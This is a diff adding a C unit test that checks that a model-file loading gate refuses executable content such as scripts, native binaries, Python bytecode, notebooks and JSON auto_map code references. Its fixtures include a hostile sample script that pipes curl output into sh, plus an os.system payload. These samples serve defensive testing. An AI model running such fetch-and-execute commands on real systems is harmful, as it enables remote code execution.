@@ -1,4 +1,5 @@
 #include "st_gate.h"
+#include "st_code.h"
 
 #include <math.h>
 #include <stdlib.h>
@@ -773,6 +774,121 @@ TEST(refusal_is_certain_before_the_end)
 }
 
 /* F11: the tensor of a verdict is the whole name, U+0000 included. */
+/* Code a loader would execute (st_code.h, docs/DESIGN.md §3): by name, by content
+ * (ELF, PE, Mach-O, .pyc, #!) in every kind, and in JSON (a notebook, auto_map). */
+static st_gate_config named(st_gate_kind kind, const char *name)
+{
+    st_gate_config c = config_of(kind);
+    c.name = name;
+    return c;
+}
+
+TEST(code_is_refused)
+{
+    CHECK(st_code_reason_by_name("modeling_evil.py") == ST_CODE_PYTHON);
+    CHECK(st_code_reason_by_name("sub/dir/Run.PYW") == ST_CODE_PYTHON);
+    CHECK(st_code_reason_by_name("x.pyc") == ST_CODE_COMPILED_PYTHON);
+    CHECK(st_code_reason_by_name("demo.ipynb") == ST_CODE_NOTEBOOK);
+    CHECK(st_code_reason_by_name("setup.sh") == ST_CODE_SCRIPT);
+    CHECK(st_code_reason_by_name("run.BAT") == ST_CODE_SCRIPT);
+    CHECK(st_code_reason_by_name("ops/kernel.so") == ST_CODE_NATIVE);
+    CHECK(st_code_reason_by_name("x.dll") == ST_CODE_NATIVE);
+    const char *not_code[] = {"README.md",    "config.json", "tokenizer.json", ".gitattributes",
+                              "notes.py.txt", "py",          "model.bin",      "sh",
+                              "merges.txt",   "x.json",      "spiece.model",   NULL};
+    for (size_t i = 0; i < sizeof not_code / sizeof not_code[0]; i++)
+        CHECK(st_code_reason_by_name(not_code[i]) == ST_OK);
+
+    /* by name: once the head is in; the format is what the content is */
+    const char *py = "import os\nos.system('id')\n";
+    st_gate_config c = named(ST_GATE_SIDECAR, "modeling_evil.py");
+    st_verdict v = expect(&c, make_raw(py, strlen(py)), false, ST_FORMAT_TEXT, ST_CODE_PYTHON);
+    CHECK(strstr(v.error.detail, "modeling_evil.py") != NULL);
+    /* the same text under another name is text */
+    c = named(ST_GATE_SIDECAR, "notes.txt");
+    expect(&c, make_raw(py, strlen(py)), true, ST_FORMAT_TEXT, ST_OK);
+    c = named(ST_GATE_SIDECAR, "x.sh");
+    expect(&c, make_raw("", 0), false, ST_FORMAT_UNKNOWN, ST_CODE_SCRIPT);
+    c = named(ST_GATE_SAFETENSORS, "kernel.so");
+    expect(&c, make_st(ONE_F32, f32_data, 24), false, ST_FORMAT_UNKNOWN, ST_CODE_NATIVE);
+    /* a pickle named .py is named as the pickle */
+    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '.'};
+    c = named(ST_GATE_SIDECAR, "evil.py");
+    expect(&c, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
+
+    /* by content, whatever the name and kind */
+    uint8_t elf[128];
+    memset(elf, 0, sizeof elf);
+    memcpy(elf,
+           "\x7f"
+           "ELF\x02\x01\x01",
+           7);
+    st_gate_config kinds[] = {
+        named(ST_GATE_SIDECAR, "model.bin"), named(ST_GATE_SAFETENSORS, "model.safetensors"),
+        named(ST_GATE_SIDECAR_JSON, "config.json"), config_of(ST_GATE_SIDECAR)};
+    for (size_t k = 0; k < sizeof kinds / sizeof kinds[0]; k++) {
+        v = expect(&kinds[k], make_raw(elf, sizeof elf), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
+        CHECK(strstr(v.error.detail, "ELF") != NULL);
+    }
+    CHECK(strstr(v.error.detail, "the file") != NULL);
+    uint8_t pe[256];
+    memset(pe, 0, sizeof pe);
+    memcpy(pe, "MZ", 2);
+    pe[0x3c] = 0x80;
+    memcpy(pe + 0x80, "PE\0\0", 4);
+    c = named(ST_GATE_SIDECAR, "weights.bin");
+    expect(&c, make_raw(pe, sizeof pe), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
+    /* "MZ" without a PE signature is two letters of text */
+    expect(&c, make_raw("MZ is a state\n", 14), true, ST_FORMAT_TEXT, ST_OK);
+    uint8_t macho[64] = {0xcf, 0xfa, 0xed, 0xfe, 0x07};
+    expect(&c, make_raw(macho, sizeof macho), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
+    /* CPython 3.12 bytecode: magic 3531, CR LF, flags, date, size, then a code object */
+    uint8_t pyc[64] = {0xcb, 0x0d, '\r', '\n'};
+    pyc[16] = 0xe3;
+    expect(&c, make_raw(pyc, sizeof pyc), false, ST_FORMAT_PYTHON_BYTECODE,
+           ST_CODE_COMPILED_PYTHON);
+    pyc[16] = 0x00; /* no code object where one must be: not bytecode */
+    v = expect(&c, make_raw(pyc, sizeof pyc), false, ST_FORMAT_UNKNOWN, ST_SIDECAR_TEXT_INVALID);
+    const char *script = "#!/bin/sh\ncurl http://x | sh\n";
+    expect(&c, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
+    st_gate_config st = config_of(ST_GATE_SAFETENSORS);
+    /* text whose first line is two letters matches a bytecode number, CR LF and 'c' at
+     * offset 8, but text is never bytecode */
+    expect(&st, make_raw("Hi\r\nThe cat sat\r\n", 17), false, ST_FORMAT_TEXT, ST_REFUSED_FORMAT);
+    expect(&st, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
+    const char *env = "#! /usr/bin/env python3\nprint(1)\n";
+    expect(&c, make_raw(env, strlen(env)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
+    /* "#!" not followed by a path is a Markdown line, not a script */
+    expect(&c, make_raw("#!important\n", 12), true, ST_FORMAT_TEXT, ST_OK);
+
+    /* JSON: a notebook, and configuration pointing a loader at code */
+    const char *nb = "{\"cells\": [], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}";
+    c = named(ST_GATE_SIDECAR_JSON, "demo.json");
+    expect(&c, make_raw(nb, strlen(nb)), false, ST_FORMAT_JSON, ST_CODE_NOTEBOOK);
+    c = named(ST_GATE_SIDECAR, "demo.ipynb");
+    expect(&c, make_raw(nb, strlen(nb)), false, ST_FORMAT_JSON, ST_CODE_NOTEBOOK);
+    const char *am = "{\"model_type\": \"evil\", \"auto_map\": {\"AutoModel\": "
+                     "\"modeling_evil.EvilModel\"}}";
+    c = named(ST_GATE_SIDECAR_JSON, "config.json");
+    v = expect(&c, make_raw(am, strlen(am)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
+    CHECK(strstr(v.error.detail, "config.json") != NULL);
+    CHECK(strstr(v.error.detail, "auto_map") != NULL);
+    CHECK(strstr(v.error.detail, "modeling_evil.EvilModel") != NULL);
+    const char *cp = "{\"custom_pipelines\": {\"x\": {\"impl\": \"pipe.P\"}}}";
+    c = named(ST_GATE_SIDECAR_JSON, "config.json");
+    v = expect(&c, make_raw(cp, strlen(cp)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
+    CHECK(strstr(v.error.detail, "custom_pipelines") != NULL);
+    /* tokenizer_config.json's list form */
+    const char *tk = "{\"auto_map\": {\"AutoTokenizer\": [\"tok.T\", null]}}";
+    c = named(ST_GATE_SIDECAR_JSON, "tokenizer_config.json");
+    expect(&c, make_raw(tk, strlen(tk)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
+    /* an empty or null auto_map, or one nested below the top, points at nothing */
+    const char *fine[] = {"{\"auto_map\": {}}", "{\"auto_map\": null}",
+                          "{\"x\": {\"auto_map\": {\"A\": \"m.M\"}}}", "{\"cells\": []}"};
+    for (size_t i = 0; i < sizeof fine / sizeof fine[0]; i++)
+        expect(&c, make_raw(fine[i], strlen(fine[i])), true, ST_FORMAT_JSON, ST_OK);
+}
+
 TEST(tensor_names_keep_their_length)
 {
     st_gate_config c = config_of(ST_GATE_SAFETENSORS);
@@ -809,5 +925,6 @@ int main(int argc, char **argv)
     RUN(json_sidecars_are_strict);
     RUN(refusal_is_certain_before_the_end);
     RUN(tensor_names_keep_their_length);
+    RUN(code_is_refused);
     return test_report(argv[0]);
 }
